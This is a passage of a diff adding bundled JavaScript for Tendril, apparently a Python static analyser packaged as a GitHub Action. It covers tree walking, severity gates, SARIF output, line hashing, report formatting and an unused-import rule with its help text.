+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.walk = walk;
+/**
+ * The single walk: visits every named node of the tree once, in source order, and calls the
+ * handlers registered for its type (`type`) on the way down and (`type:exit`) on the way up.
+ * Iterative, with a tree cursor: deep nesting cannot overflow the stack, and a node object is only
+ * materialised for types someone asked for.
+ */
+function walk(tree, visitors) {
+    const enter = new Map();
+    const exit = new Map();
+    for (const visitor of visitors) {
+        for (const [key, handler] of Object.entries(visitor)) {
+            if (key === 'end' || !handler)
+                continue;
+            const [type, phase] = key.split(':');
+            const table = phase === 'exit' ? exit : enter;
+            let list = table.get(type);
+            if (!list)
+                table.set(type, (list = []));
+            list.push(handler);
+        }
+    }
+    const pending = [];
+    const flush = (depth) => {
+        while (pending.length > 0 && pending[pending.length - 1].depth >= depth) {
+            const frame = pending.pop();
+            for (const handler of frame.handlers)
+                handler(frame.node);
+        }
+    };
+    const cursor = tree.walk();
+    try {
+        let depth = 0;
+        for (;;) {
+            flush(depth);
+            if (cursor.nodeIsNamed) {
+                const type = cursor.nodeType;
+                const onEnter = enter.get(type);
+                const onExit = exit.get(type);
+                if (onEnter || onExit) {
+                    const node = cursor.currentNode;
+                    if (onEnter)
+                        for (const handler of onEnter)
+                            handler(node);
+                    if (onExit)
+                        pending.push({ depth, node, handlers: onExit });
+                }
+            }
+            if (cursor.gotoFirstChild()) {
+                depth++;
+                continue;
+            }
+            while (!cursor.gotoNextSibling()) {
+                if (!cursor.gotoParent()) {
+                    flush(0);
+                    return;
+                }
+                depth--;
+            }
+        }
+    }
+    finally {
+        cursor.delete();
+    }
+}
+
+
+/***/ }),
+
+/***/ 286:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.isTendrilWorker = isTendrilWorker;
+exports.runWorker = runWorker;
+const worker_threads_1 = __nccwpck_require__(167);
+const rules_1 = __nccwpck_require__(755);
+const pool_1 = __nccwpck_require__(138);
+/** True in a worker thread started by the pool (see PoolOptions.workerScript). */
+function isTendrilWorker() {
+    return !worker_threads_1.isMainThread && worker_threads_1.workerData?.tendrilWorker === true;
+}
+/** The worker loop: analyse each file the main thread sends, send the result back. */
+function runWorker() {
+    const setup = worker_threads_1.workerData;
+    const rules = (0, rules_1.rulesById)(setup.ruleIds);
+    worker_threads_1.parentPort.on('message', (message) => {
+        void (0, pool_1.analyzeFile)(message.file, rules, setup.options).then((result) => {
+            worker_threads_1.parentPort.postMessage({ index: message.index, result });
+        });
+    });
+}
+
+
+/***/ }),
+
+/***/ 916:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.UsageError = void 0;
+/** An error the user can fix (bad argument, input, configuration): exit code 2, one line, no stack. */
+class UsageError extends Error {
+    name = 'UsageError';
+}
+exports.UsageError = UsageError;
+
+
+/***/ }),
+
+/***/ 343:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.countFindings = countFindings;
+exports.evaluateGates = evaluateGates;
+const rules_1 = __nccwpck_require__(755);
+const severity_1 = __nccwpck_require__(640);
+const META = new Map(rules_1.ALL_RULES.map((rule) => [rule.meta.id, rule.meta]));
+function countFindings(findings) {
+    const counts = { security: 0, maintainability: 0, bySeverity: { critical: 0, high: 0, medium: 0, low: 0 } };
+    for (const finding of findings) {
+        const meta = META.get(finding.ruleId);
+        if (meta?.kind === 'security') {
+            counts.security++;
+            counts.bySeverity[(0, severity_1.bandOf)(meta.securitySeverity ?? 0)]++;
+        }
+        else
+            counts.maintainability++;
+    }
+    return counts;
+}
+/** Reporting and failing are separate: everything is reported; the gates only decide the exit. */
+function evaluateGates(counts, settings) {
+    const reasons = [];
+    const threshold = settings.failOnSecuritySeverity;
+    if (threshold !== 'none') {
+        const bands = severity_1.BANDS.slice(0, severity_1.BANDS.findIndex((b) => b.name === threshold) + 1);
+        const over = bands.reduce((sum, band) => sum + counts.bySeverity[band.name], 0);
+        if (over > 0) {
+            const list = bands.filter((b) => counts.bySeverity[b.name] > 0).map((b) => `${counts.bySeverity[b.name]} ${b.name}`);
+            reasons.push(`${over} security finding${over === 1 ? '' : 's'} at or above ${threshold} severity (${list.join(', ')})`);
+        }
+    }
+    const max = settings.maxMaintainabilityFindings;
+    if (max >= 0 && counts.maintainability > max) {
+        reasons.push(`${counts.maintainability} maintainability findings, more than the maximum of ${max}`);
+    }
+    return { failed: reasons.length > 0, reasons };
+}
+
+
+/***/ }),
+
+/***/ 373:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.getInput = getInput;
+exports.setOutput = setOutput;
+exports.appendSummary = appendSummary;
+exports.error = error;
+exports.info = info;
+const crypto_1 = __nccwpck_require__(982);
+const fs = __importStar(__nccwpck_require__(896));
+const os = __importStar(__nccwpck_require__(857));
+/**
+ * The GitHub Actions runner protocol, the few parts Tendril needs: inputs from INPUT_* variables,
+ * outputs and the job summary appended to the files the runner names, workflow commands on stdout.
+ */
+function getInput(name) {
+    return (process.env[`INPUT_${name.replace(/ /g, '_').toUpperCase()}`] ?? '').trim();
+}
+function escapeData(text) {
+    return text.replace(/%/g, '%25').replace(/\r/g, '%0D').replace(/\n/g, '%0A');
+}
+function escapeProperty(text) {
+    return escapeData(text).replace(/:/g, '%3A').replace(/,/g, '%2C');
+}
+function setOutput(name, value) {
+    const file = process.env.GITHUB_OUTPUT;
+    if (file) {
+        const delimiter = `ghadelimiter_${(0, crypto_1.randomUUID)()}`;
+        fs.appendFileSync(file, `${name}<<${delimiter}${os.EOL}${value}${os.EOL}${delimiter}${os.EOL}`);
+    }
+    else {
+        process.stdout.write(`${os.EOL}::set-output name=${escapeProperty(name)}::${escapeData(value)}${os.EOL}`);
+    }
+}
+function appendSummary(markdown) {
+    const file = process.env.GITHUB_STEP_SUMMARY;
+    if (file)
+        fs.appendFileSync(file, markdown.endsWith('\n') ? markdown : markdown + '\n');
+}
+function error(message, title) {
+    const props = title ? ` title=${escapeProperty(title)}` : '';
+    process.stdout.write(`::error${props}::${escapeData(message)}${os.EOL}`);
+}
+function info(message) {
+    process.stdout.write(message + os.EOL);
+}
+
+
+/***/ }),
+
+/***/ 938:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.lineHashes = lineHashes;
+/**
+ * `primaryLocationLineHash`, computed the way github/codeql-action computes it when it uploads
+ * SARIF without fingerprints, so that alerts deduplicate whichever path uploads Tendril's SARIF.
+ *
+ * The algorithm, as that action documents it: a rolling polynomial hash (base 37, arithmetic modulo
+ * 2^64) over a window of the next 100 characters counted from the start of each line, skipping
+ * spaces and tabs, with `\r\n`, `\r` and `\n` all read as `\n`; after the last character comes an
+ * end marker (65535) and then zeros to fill the window. The text is the file's bytes decoded as
+ * UTF-8 (invalid sequences become U+FFFD, a BOM stays), read in UTF-16 code units. Identical hashes
+ * in one file are told apart by a `:N` occurrence suffix.
+ *
+ * The 64-bit arithmetic is done on two 32-bit halves with plain numbers: every multiplier is below
+ * 2^17, so each partial product stays exact in a double.
+ */
+const WINDOW = 100;
+const BASE = 37;
+const TWO32 = 0x1_0000_0000;
+const END_OF_FILE = 65535;
+/** BASE^WINDOW mod 2^64 as [hi, lo]. */
+const FIRST_MOD = (() => {
+    let hi = 0;
+    let lo = 1;
+    for (let i = 0; i < WINDOW; i++)
+        [hi, lo] = mulSmall(hi, lo, BASE);
+    return [hi, lo];
+})();
+function mulSmall(hi, lo, k) {
+    const low = lo * k;
+    const carry = Math.floor(low / TWO32);
+    return [(hi * k + carry) % TWO32, low % TWO32];
+}
+function hex64(hi, lo) {
+    return hi === 0 ? lo.toString(16) : hi.toString(16) + lo.toString(16).padStart(8, '0');
+}
+/**
+ * Hashes of the 1-based `wanted` lines of `text` (all lines when `wanted` is omitted), as
+ * `"<hex>:<occurrence>"` strings.
+ */
+function lineHashes(text, wanted) {
+    const out = new Map();
+    const window = new Array(WINDOW).fill(0);
+    const lineAt = new Array(WINDOW).fill(-1);
+    const seen = new Map();
+    let hi = 0;
+    let lo = 0;
+    let index = 0;
+    let lineNumber = 0;
+    let lineStart = true;
+    let prevCR = false;
+    const emit = () => {
+        const value = hex64(hi, lo);
+        const count = (seen.get(value) ?? 0) + 1;
+        seen.set(value, count);
+        const line = lineAt[index];
+        if (!wanted || wanted.has(line))
+            out.set(line, `${value}:${count}`);
+        lineAt[index] = -1;
+    };
+    const update = (current) => {
+        const begin = window[index];
+        window[index] = current;
+        // hash = hash * BASE + current - FIRST_MOD * begin   (mod 2^64)
+        let [h, l] = mulSmall(hi, lo, BASE);
+        l += current;
+        if (l >= TWO32) {
+            l -= TWO32;
+            h = (h + 1) % TWO32;
+        }
+        const [sh, sl] = mulSmall(FIRST_MOD[0], FIRST_MOD[1], begin);
+        l -= sl;
+        if (l < 0) {
+            l += TWO32;
+            h -= 1;
+        }
+        h -= sh;
+        h = ((h % TWO32) + TWO32) % TWO32;
+        hi = h;
+        lo = l;
+        index = (index + 1) % WINDOW;
+    };
+    const process = (code) => {
+        if (code === 0x20 || code === 0x09 || (prevCR && code === 0x0a)) {
+            prevCR = false;
+            return;
+        }
+        if (code === 0x0d) {
+            code = 0x0a;
+            prevCR = true;
+        }
+        else {
+            prevCR = false;
+        }
+        if (lineAt[index] !== -1)
+            emit();
+        if (lineStart) {
+            lineStart = false;
+            lineNumber++;
+            lineAt[index] = lineNumber;
+        }
+        if (code === 0x0a)
+            lineStart = true;
+        update(code);
+    };
+    for (let i = 0; i < text.length; i++)
+        process(text.charCodeAt(i));
+    process(END_OF_FILE);
+    for (let i = 0; i < WINDOW; i++) {
+        if (lineAt[index] !== -1)
+            emit();
+        update(0);
+    }
+    return out;
+}
+
+
+/***/ }),
+
+/***/ 923:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.RULE_META = void 0;
+exports.severityLabel = severityLabel;
+exports.plural = plural;
+const rules_1 = __nccwpck_require__(755);
+const severity_1 = __nccwpck_require__(640);
+exports.RULE_META = new Map(rules_1.ALL_RULES.map((rule) => [rule.meta.id, rule.meta]));
+/** What a person reads as a finding's severity: the GitHub band for security, `note` otherwise. */
+function severityLabel(finding) {
+    const meta = exports.RULE_META.get(finding.ruleId);
+    return meta?.kind === 'security' ? (0, severity_1.bandOf)(meta.securitySeverity ?? 0) : 'note';
+}
+function plural(n, word) {
+    return `${n} ${word}${n === 1 ? '' : 's'}`;
+}
+
+
+/***/ }),
+
+/***/ 643:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.SRCROOT = exports.CATEGORIES = void 0;
+exports.encodeUri = encodeUri;
+exports.ruleDescriptor = ruleDescriptor;
+exports.buildSarif = buildSarif;
+exports.formatSarif = formatSarif;
+const url_1 = __nccwpck_require__(16);
+const rules_1 = __nccwpck_require__(755);
+const types_1 = __nccwpck_require__(182);
+const version_1 = __nccwpck_require__(311);
+/**
+ * The SARIF 2.1.0 writer, shaped for GitHub code scanning: one run per kind, each with its own
+ * category (`automationDetails.id`), because GitHub rejects two runs of one tool with one category.
+ * Security rules carry `security-severity` and a CWE tag; maintainability rules never do, are notes,
+ * and are tagged `quality` and `maintainability`.
+ */
+exports.CATEGORIES = {
+    security: 'tendril/security/',
+    maintainability: 'tendril/maintainability/',
+};
+exports.SRCROOT = '%SRCROOT%';
+const SCHEMA = 'https://json.schemastore.org/sarif-2.1.0.json';
+/** Repository-relative path -> URI reference: each segment percent-encoded (`a b/c#d.py` -> `a%20b/c%23d.py`). */
+function encodeUri(relPath) {
+    return relPath.split('/').map(encodeURIComponent).join('/');
+}
+/** Markdown help as plain text, for `help.text`: code fences and heading marks dropped. */
+function markdownToText(markdown) {
+    return markdown
+        .split('\n')
+        .filter((line) => !line.startsWith('```'))
+        .map((line) => line.replace(/^#+\s*/, ''))
+        .join('\n')
+        .trim();
+}
+function cweTag(cwe) {
+    return `external/cwe/cwe-${String(cwe).padStart(3, '0')}`;
+}
+function ruleDescriptor(meta) {
+    const properties = meta.kind === 'security'
+        ? {
+            tags: ['security', ...(meta.cwe ?? []).map(cweTag), meta.category],
+            kind: 'problem',
+            precision: meta.precision,
+            'security-severity': (meta.securitySeverity ?? 0).toFixed(1),
+            aliases: meta.aliases,
+        }
+        : {
+            tags: ['quality', 'maintainability', meta.category],
+            kind: 'problem',
+            precision: meta.precision,
+            'problem.severity': meta.problemSeverity ?? 'recommendation',
+            aliases: meta.aliases,
+        };
+    return {
+        id: meta.id,
+        name: meta.name,
+        shortDescription: { text: meta.shortDescription },
+        fullDescription: { text: meta.fullDescription },
+        defaultConfiguration: { level: (0, types_1.ruleLevel)(meta) },
+        help: { text: markdownToText(meta.help), markdown: meta.help },
+        properties,
+    };
+}
+function physicalLocation(path, region) {
+    const location = { artifactLocation: { uri: encodeUri(path), uriBaseId: exports.SRCROOT } };
+    if (region)
+        location.region = region;
+    return location;
+}
+function resultOf(finding, meta, ruleIndex) {
+    const result = {
+        ruleId: meta.id,
+        ruleIndex,
+        level: (0, types_1.ruleLevel)(meta),
+        message: { text: finding.message },
+        locations: [
+            {
+                physicalLocation: physicalLocation(finding.path, {
+                    startLine: finding.line,
+                    startColumn: finding.column,
+                    endLine: finding.endLine,
+                    endColumn: finding.endColumn,
+                }),
+            },
+        ],
+    };
+    if (finding.lineHash)
+        result.partialFingerprints = { primaryLocationLineHash: finding.lineHash };
+    return result;
+}
+function notificationOf(n) {
+    const region = n.line ? { startLine: n.line, ...(n.column ? { startColumn: n.column } : {}) } : undefined;
+    return {
+        level: n.level,
+        message: { text: n.message },
+        descriptor: { id: n.id },
+        locations: [{ physicalLocation: physicalLocation(n.path, region) }],
+    };
+}
+/** Where the tool is documented: known when running as an action (the repository it runs from). */
+function informationUri() {
+    const repository = process.env.GITHUB_ACTION_REPOSITORY;
+    const server = process.env.GITHUB_SERVER_URL || 'https://github.com';
+    return repository && /^[\w.-]+\/[\w.-]+$/.test(repository) ? { informationUri: `${server}/${repository}` } : {};
+}
+function runOf(kind, rules, outcome) {
+    const index = new Map(rules.map((rule, i) => [rule.meta.id, i]));
+    const results = outcome.findings
+        .filter((f) => index.has(f.ruleId))
+        .map((f) => resultOf(f, rules[index.get(f.ruleId)].meta, index.get(f.ruleId)));
+    return {
+        tool: {
+            driver: {
+                name: 'Tendril',
+                semanticVersion: version_1.VERSION,
+                ...informationUri(),
+                rules: rules.map((rule) => ruleDescriptor(rule.meta)),
+            },
+        },
+        automationDetails: { id: exports.CATEGORIES[kind] },
+        originalUriBaseIds: { [exports.SRCROOT]: { uri: (0, url_1.pathToFileURL)(outcome.settings.root).href.replace(/\/?$/, '/') } },
+        invocations: [
+            {
+                executionSuccessful: true,
+                toolExecutionNotifications: outcome.notifications.map(notificationOf),
+            },
+        ],
+        columnKind: 'utf16CodeUnits',
+        results,
+    };
+}
+/**
+ * The SARIF log for an outcome. A kind with no enabled rule gets no run (an empty run would tell
+ * GitHub that every open alert of that category is fixed). Same outcome, same bytes.
+ */
+function buildSarif(outcome) {
+    const enabled = new Set(outcome.settings.rules);
+    const runs = ['security', 'maintainability']
+        .map((kind) => ({ kind, rules: rules_1.ALL_RULES.filter((r) => r.meta.kind === kind && enabled.has(r)) }))
+        .filter(({ rules }) => rules.length > 0)
+        .map(({ kind, rules }) => runOf(kind, rules, outcome));
+    return { $schema: SCHEMA, version: '2.1.0', runs };
+}
+function formatSarif(outcome) {
+    return JSON.stringify(buildSarif(outcome), null, 2) + '\n';
+}
+
+
+/***/ }),
+
+/***/ 994:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.formatSummary = formatSummary;
+const labels_1 = __nccwpck_require__(923);
+/** Tally of `key(x)` over `items`, most frequent first, ties by key. */
+function top(items, key, limit) {
+    const tally = new Map();
+    for (const item of items)
+        tally.set(key(item), (tally.get(key(item)) ?? 0) + 1);
+    return [...tally.entries()].sort((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : 1)).slice(0, limit);
+}
+function cell(text) {
+    return text.replace(/\|/g, '\\|').replace(/\n/g, ' ');
+}
+/** The job summary: verdict, counts by kind and severity, top rules and files, notifications. */
+function formatSummary(outcome, sarifFile) {
+    const { counts, gate } = outcome;
+    const out = ['## Tendril', ''];
+    out.push(gate.failed ? `**Gate failed:** ${gate.reasons.map(cell).join('; ')}` : '**Gate passed.**', '');
+    out.push(`Analysed ${(0, labels_1.plural)(outcome.files, 'file')}.${sarifFile ? ` SARIF: \`${sarifFile}\`.` : ''}`, '');
+    out.push('| Kind | Severity | Findings |', '| --- | --- | ---: |');
+    for (const band of ['critical', 'high', 'medium', 'low']) {
+        out.push(`| Security | ${band} | ${counts.bySeverity[band]} |`);
+    }
+    out.push(`| Maintainability | note | ${counts.maintainability} |`, '');
+    if (outcome.findings.length > 0) {
+        out.push('### Top rules', '', '| Rule | Kind | Findings |', '| --- | --- | ---: |');
+        for (const [id, n] of top(outcome.findings, (f) => f.ruleId, 10)) {
+            out.push(`| \`${id}\` | ${labels_1.RULE_META.get(id)?.kind ?? ''} | ${n} |`);
+        }
+        out.push('', '### Top files', '', '| File | Findings |', '| --- | ---: |');
+        for (const [file, n] of top(outcome.findings, (f) => f.path, 10))
+            out.push(`| \`${cell(file)}\` | ${n} |`);
+        out.push('');
+    }
+    if (outcome.notifications.length > 0) {
+        out.push(`### ${(0, labels_1.plural)(outcome.notifications.length, 'file problem')}`, '');
+        for (const n of outcome.notifications.slice(0, 20))
+            out.push(`- ${n.level}: ${cell(n.message)}`);
+        if (outcome.notifications.length > 20)
+            out.push(`- ... and ${outcome.notifications.length - 20} more (see the SARIF file)`);
+        out.push('');
+    }
+    return out.join('\n');
+}
+
+
+/***/ }),
+
+/***/ 655:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.totalsLine = totalsLine;
+exports.formatText = formatText;
+const labels_1 = __nccwpck_require__(923);
+const COLOURS = {
+    critical: '\x1b[1;31m',
+    high: '\x1b[31m',
+    medium: '\x1b[33m',
+    low: '\x1b[36m',
+    note: '\x1b[2m',
+    bold: '\x1b[1m',
+    reset: '\x1b[0m',
+};
+/** One-line totals, also used by the action's log. */
+function totalsLine(outcome) {
+    const { counts } = outcome;
+    const bands = ['critical', 'high', 'medium', 'low']
+        .filter((band) => counts.bySeverity[band] > 0)
+        .map((band) => `${counts.bySeverity[band]} ${band}`);
+    return (`${(0, labels_1.plural)(counts.security, 'security alert')}${bands.length ? ` (${bands.join(', ')})` : ''}, ` +
+        `${(0, labels_1.plural)(counts.maintainability, 'maintainability note')} in ${(0, labels_1.plural)(outcome.files, 'file')} analysed`);
+}
+/**
+ * The terminal report: findings grouped by file, one line each as `path:line:col  severity
+ * rule-id  message` (editors and terminals make `path:line:col` clickable), then the totals and
+ * the gate verdict. Colour only when asked (a TTY without NO_COLOR).
+ */
+function formatText(outcome, colour) {
+    const paint = (style, text) => (colour ? `${COLOURS[style]}${text}${COLOURS.reset}` : text);
+    const lines = [];
+    const idWidth = Math.max(0, ...outcome.findings.map((f) => f.ruleId.length));
+    let current;
+    for (const finding of outcome.findings) {
+        if (finding.path !== current) {
+            if (current !== undefined)
+                lines.push('');
+            current = finding.path;
+            lines.push(paint('bold', finding.path));
+        }
+        const severity = (0, labels_1.severityLabel)(finding);
+        lines.push(`  ${finding.path}:${finding.line}:${finding.column}  ${paint(severity, severity.padEnd(8))} ` +
+            `${finding.ruleId.padEnd(idWidth)}  ${finding.message}`);
+    }
+    if (lines.length)
+        lines.push('');
+    lines.push(totalsLine(outcome));
+    if (outcome.gate.failed) {
+        for (const reason of outcome.gate.reasons)
+            lines.push(paint('high', `Gate failed: ${reason}`));
+    }
+    return lines.join('\n') + '\n';
+}
+
+
+/***/ }),
+
+/***/ 755:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.ALL_RULES = void 0;
+exports.rulesOfKind = rulesOfKind;
+exports.selectRules = selectRules;
+exports.rulesById = rulesById;
+const errors_1 = __nccwpck_require__(916);
+const maintainability_1 = __nccwpck_require__(225);
+const security_1 = __nccwpck_require__(874);
+/** The catalogue: every rule Tendril has, security first, each kind sorted by id. */
+exports.ALL_RULES = [...security_1.SECURITY_RULES, ...maintainability_1.MAINTAINABILITY_RULES].sort((a, b) => (a.meta.kind === b.meta.kind ? (a.meta.id < b.meta.id ? -1 : 1) : a.meta.kind === 'security' ? -1 : 1));
+function rulesOfKind(kind) {
+    return exports.ALL_RULES.filter((rule) => rule.meta.kind === kind);
+}
+/**
+ * Resolves selectors to rules: a rule id, an alias any rule lists (`F401`, `B602`; one alias may
+ * name several rules), or a kind (`security`, `maintainability`). Unknown selectors are an error
+ * that names them.
+ */
+function selectRules(selectors, what = 'rule') {
+    const chosen = new Set();
+    for (const selector of selectors) {
+        const key = selector.trim();
+        const matches = exports.ALL_RULES.filter((rule) => rule.meta.id === key ||
+            rule.meta.kind === key ||
+            rule.meta.aliases.some((alias) => alias.toUpperCase() === key.toUpperCase()));
+        if (matches.length === 0) {
+            throw new errors_1.UsageError(`unknown ${what} '${key}': use a rule id, an alias such as F401, or security/maintainability (see 'tendril rules')`);
+        }
+        for (const rule of matches)
+            chosen.add(rule);
+    }
+    return exports.ALL_RULES.filter((rule) => chosen.has(rule));
+}
+function rulesById(ids) {
+    return ids.map((id) => {
+        const rule = exports.ALL_RULES.find((r) => r.meta.id === id);
+        if (!rule)
+            throw new Error(`no rule with id ${id}`);
+        return rule;
+    });
+}
+
+
+/***/ }),
+
+/***/ 225:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.MAINTAINABILITY_RULES = void 0;
+const unused_import_1 = __nccwpck_require__(673);
+/** Every maintainability rule. Add a rule here when its module is written. */
+exports.MAINTAINABILITY_RULES = [unused_import_1.unusedImport];
+
+
+/***/ }),
+
+/***/ 673:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.unusedImport = void 0;
+exports.unusedImportMessage = unusedImportMessage;
+/**
+ * pyflakes F401 / Ruff F401 / Pylint W0611: an imported name that nothing reads.
+ *
+ * Built on the shared scope model (src/analysis/scopes.ts); see there for how reads are resolved.
+ * Semantics, decided against pyflakes and Ruff (checked with Ruff's WebAssembly build), precision
+ * first:
+ *
+ * - One finding per imported name, on the name: the dotted name (`os.path` in `import os.path`),
+ *   or the alias (`np` in `import numpy as np`).
+ * - `import a.b` binds `a`: any read of `a` uses it, and the message names `a.b`. It is also used
+ *   when a used alias of an enclosing package (`import a as x`) sits in the same scope: it loads
+ *   the submodule that `x.b` reaches (Ruff agrees).
+ * - All bindings of a name in one scope form a group (split at `del`); a read of any member uses
+ *   them all. So `try: import json / except ImportError: json = None`, imports in both branches
+ *   of an `if`, or a re-import of a name in use are fine when the name is read. When nothing reads
+ *   the group, only its last binding is judged, and reported if it is an import, exactly like
+ *   pyflakes and Ruff: the earlier ones are redefinitions (F811), and a `# noqa` written for those
+ *   tools stays on the right line. So `import os` then `os = 1` with no read is not reported here.
+ * - Reads count wherever they are: later in the module, in functions defined anywhere (their
+ *   bodies run after the module), decorators, defaults, annotations, string annotations,
+ *   f-strings, class bases and keywords, `del x`, and the strings of `__all__` (including
+ *   `__all__ += [...]`, `.extend([...])` and `.append(...)`, which Ruff does not read).
+ * - Never reported: `__future__` imports, `import a as a` / `from m import a as a` (the explicit
+ *   re-export idiom), star imports, imports in a scope that calls `locals()` (or bare `vars()`),
+ *   imports declared `global`/`nonlocal` (they set a name for another scope), and imports in a
+ *   class body (they become class attributes, read as `self.name`; Ruff does not report them
+ *   either).
+ * - Still reported, like pyflakes: imports in `__init__.py`, imports under `if TYPE_CHECKING:`
+ *   that nothing reads, imports guarded by `try/except ImportError`, imports inside functions.
+ */
+const scopes_1 = __nccwpck_require__(985);
+const HELP = `# An imported name is never used
+
+An \`import\` whose name nothing in the module reads does no useful work, yet it still runs: the
+module is loaded (which can be slow, have side effects, or fail when an optional dependency is
+missing), and the name suggests to the reader a dependency that does not exist. Unused imports
+usually remain after a refactoring, and they hide the imports that matter, lengthen dependency
+lists and can create import cycles.
+
+## Example
+
+\`\`\`python
+import os
+import sys
+import numpy as np
+from typing import List, Optional
+
+
+def greet(name: Optional[str]) -> None:
+    sys.stdout.write(f"hello {name or 'world'}\\n")
+\`\`\`
+
+\`os\`, \`numpy\` (as \`np\`) and \`typing.List\` are reported: nothing reads \`os\`, \`np\` or \`List\`.
+
+## How to fix
+
+Delete the import, or only the unused names of a \`from ... import\` list:
+
+\`\`\`python
+import sys
+from typing import Optional
+\`\`\`
+
+If the import is there on purpose, make the intent visible:
+
+- A re-export from a package's \`__init__.py\` or an API module: list the name in \`__all__\`, or
+  write it as \`from .module import name as name\` (or \`import name as name\`), the explicit
+  re-export form that type checkers also understand.
+- An import kept for its side effects (registering plugins, patching): keep it and suppress the
+  finding on that line, with a comment saying why.
+- An availability check (\`try: import lxml\` ... \`except ImportError:\`): use
+  \`importlib.util.find_spec("lxml") is not None\`, which does not import the module.
+
+## What counts as a use
+
+Any read of the name in the module: statements after the import, function bodies wherever they
+are defined (they run when called, after the module has loaded), class bodies, decorators, default
+values, annotations, names inside string annotations such as \`"Optional[Node]"\` or
+\`cast("Node", value)\`, f-strings, class bases and keywords, \`del name\`, and the strings listed in
+\`__all__\` (\`__all__ = [...]\`, \`__all__ += [...]\`, \`__all__.extend([...])\`,
+\`__all__.append(...)\`). \`import a.b\` binds \`a\`, so any use of \`a\` uses it. When a name is
+bound several times in one scope (an import in \`try\` and a fallback in \`except ImportError\`,
+imports in both branches of an \`if\`), a read of the name uses all of them.
+
+## What is not reported
+
+- \`from __future__ import ...\`: compiler directives, not names.
+- \`import name as name\` and \`from module import name as name\`: the explicit re-export idiom.
+- \`from module import *\`: which names it provides is not known.
+- Imports in a function or module that calls \`locals()\` (or \`vars()\` with no argument) in
+  that same scope: the names may be read through the returned dictionary.
+- Imports declared \`global\` or \`nonlocal\` first: they set a name for another scope.
+- Imports in a class body: they become class attributes, typically read as \`self.name\`.
+- An import that a later binding replaces before anything reads the name (\`import os\` then
+  \`os = ...\`, or \`try: import ssl\` / \`except ImportError: ssl = None\` with \`ssl\` never
+  read): that is a redefinition, a different check (pyflakes F811). Likewise, when one name is
+  imported several times and never read, only the last import is reported, as pyflakes and Ruff
+  do.
+- Files with syntax errors: without the whole file, a use could be missed.
+
+Reads the analysis cannot see do not count: names used only in \`eval\`/\`exec\` strings, doctests,
+\`# type:\` comments, through \`globals()\`, or by other modules importing the name from this one.
+Imports in \`__init__.py\` files are reported like any other: list re-exported names in \`__all__\`
+or use the \`as\` form above.`;
+const meta = {
+    id: 'unused-import',
+    name: 'UnusedImport',
+    kind: 'maintainability',
+    shortDescription: 'An imported name is never used',
+    fullDescription: 'An import binds a name that nothing in the module reads: not later code, not a function or ' +
+        'class body, decorator, default value, annotation (string annotations included) or f-string, ' +
+        'and not __all__. The module is still loaded for nothing, and readers are misled about what ' +
+        'the code depends on.',
+    help: HELP,
+    category: 'useless-code',
+    aliases: ['F401', 'W0611'],
+    precision: 'very-high',
+    problemSeverity: 'recommendation',
+    needsCleanParse: true,
+};
+/** Import bindings this rule judges (see the file comment for the exceptions). */
+function isCandidate(binding) {
+    if (binding.kind !== 'import' && binding.kind !== 'from-import')
+        return false;
+    const info = binding.import;
+    if (!info || info.explicitReExport)
+        return false;
+    if (binding.declared)
+        return false;
+    return binding.scope.kind !== 'class';
+}
+/**
+ * Only the last binding of an unused group is judged, as pyflakes and Ruff do: an earlier import
+ * that a later binding replaces before any read (`import os` then `os = ...`, or the `try` half of
+ * `try: import x / except ImportError: x = None`) is a redefinition, a different check (F811).
+ * This also keeps an existing `# noqa: F401` on the last import meaningful.
+ */
+function isLastOfGroup(binding) {
+    const group = (0, scopes_1.rebindingGroup)(binding);
+    return group[group.length - 1] === binding;
+}
+/**
+ * `import a.b.c` next to a used alias of an enclosing package in the same scope (`import a as x`,
